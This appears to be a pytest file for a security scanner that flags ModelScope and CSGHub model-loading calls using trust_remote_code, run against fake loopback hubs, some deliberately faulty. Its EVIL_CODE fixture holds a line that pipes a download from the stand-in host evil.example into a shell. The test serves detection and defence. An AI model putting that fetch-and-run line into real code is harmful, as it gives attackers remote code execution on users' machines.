"""``hubguard scan`` end to end for ModelScope and CSGHub calls: the static pass finds the call, the remote pass
resolves it on the loopback hub, and a hostile hub costs at most ``--timeout`` and yields HG405, never a clean
pass or a traceback (issue 16, as test_hostile_hub.py does for Hugging Face)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from hubguard.cli import main
from tests.fakehub import BlobStorage, FakeCsgHub, FakeModelScope, LoopbackServer
from tests.hub.test_hostile_hub import CONFIG, FAULTS, MARGIN, TIMEOUT, run
from tests.inspectors.fixtures import system_call

EVIL_CODE = b"import os\nos.system('curl http://evil.example/x | sh')\n\nclass Custom:\n    pass\n"
APPS = {
    "modelscope": (
        "from modelscope import AutoModel\n"
        'model = AutoModel.from_pretrained("owner/victim", revision="v1.0", trust_remote_code=True)\n'
    ),
    "opencsg": (
        "from pycsghub.repo_reader import AutoModelForCausalLM\n"
        'model = AutoModelForCausalLM.from_pretrained("owner/victim", trust_remote_code=True)\n'
    ),
}
API = {"modelscope": "^/api/v1/models/owner/victim($|/commits|/repo/files)", "opencsg": "^/csg/api/"}
FILES = {"modelscope": r"/repo\?Revision=", "opencsg": "/resolve/"}


@pytest.fixture
def victim(
    request: pytest.FixtureRequest, isolated_hf_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple]:
    """(hub, server) serving owner/victim; ``isolated_hf_env`` keeps the result cache in ``tmp_path``."""
    hub = request.param
    files = {"config.json": CONFIG, "modeling.py": EVIL_CODE, "pytorch_model.bin": system_call("touch canary", 2)}
    with BlobStorage() as storage:
        server: LoopbackServer
        if hub == "modelscope":
            server = FakeModelScope(storage=storage)
            server.add_repo("owner/victim", files, tags={"v1.0": "master"})
            monkeypatch.setenv("MODELSCOPE_ENDPOINT", server.url)
        else:
            server = FakeCsgHub(storage=storage)
            server.add_repo("owner/victim", files)
            monkeypatch.setenv("CSGHUB_DOMAIN", server.url)
        monkeypatch.chdir(tmp_path)
        (tmp_path / "app.py").write_text(APPS[hub])
        with server:
            yield hub, server


def test_a_clean_scan_reports_what_each_call_runs(
    isolated_hf_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """One scan (one Semgrep run) over a ModelScope wrapper, a pycsghub wrapper and an iic Model.from_pretrained
    without trust: ModelScope trusts iic by itself and imports tools/evil.py, which no config names."""
    files = {"config.json": CONFIG, "modeling.py": EVIL_CODE, "pytorch_model.bin": system_call("touch canary", 2)}
    iic_files = {"configuration.json": b'{"framework": "pytorch", "task": "x"}', "tools/evil.py": EVIL_CODE}
    with BlobStorage() as storage, FakeModelScope(storage=storage) as ms, FakeCsgHub(storage=storage) as csg:
        ms.add_repo("owner/victim", files, tags={"v1.0": "master"})
        iic_sha = ms.add_repo("iic/victim", iic_files)
        csg.add_repo("owner/victim", files)
        monkeypatch.setenv("MODELSCOPE_ENDPOINT", ms.url)
        monkeypatch.setenv("CSGHUB_DOMAIN", csg.url)
        monkeypatch.chdir(tmp_path)
        iic_call = "from modelscope.models import Model\nModel.from_pretrained('iic/victim')\n"
        (tmp_path / "app.py").write_text(APPS["modelscope"] + APPS["opencsg"] + iic_call)
        code = main(["scan", "app.py", "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    rules_by_line: dict[int, set[str]] = {}
    for finding in report["findings"]:
        rules_by_line.setdefault(finding["region"]["startLine"], set()).add(finding["rule"])
    assert code == 1
    everything = {"HG101", "HG201", "HG401", "HG402", "HG403", "HG404"}
    assert rules_by_line == {2: everything, 4: everything, 6: {"HG101", "HG201", "HG401", "HG402"}}
    assert any(f"Revision={iic_sha}&FilePath=tools%2Fevil.py" in r.path for r in ms.requests)
    assert not Path("canary").exists()


API_FAULTS = ("drip", "slow-headers", "retry-after-nan", "rate-limit", "server-errors", "truncated", "redirect-loop",
              "oversize")
CASES = (
    [("modelscope", "api", fault) for fault in API_FAULTS]
    + [("modelscope", "files", fault) for fault in ("drip", "truncated", "reset")]
    # CSGHub shares the Hugging Face client, whose faults test_hostile_hub.py covers one by one.
    + [("opencsg", "api", fault) for fault in ("drip", "server-errors")]
    + [("opencsg", "files", "truncated")]
)


@pytest.mark.parametrize(("victim", "where", "fault"), CASES, indirect=["victim"])
def test_scan_against_a_faulty_hub(
    victim: tuple, capsys: pytest.CaptureFixture[str], where: str, fault: str
) -> None:
    hub, server = victim
    server.fault((API if where == "api" else FILES)[hub], **FAULTS[fault])
    code, rules, elapsed = run("scan", "app.py", capsys=capsys)
    assert code == 1 and "HG405" in rules
    assert elapsed < TIMEOUT + MARGIN

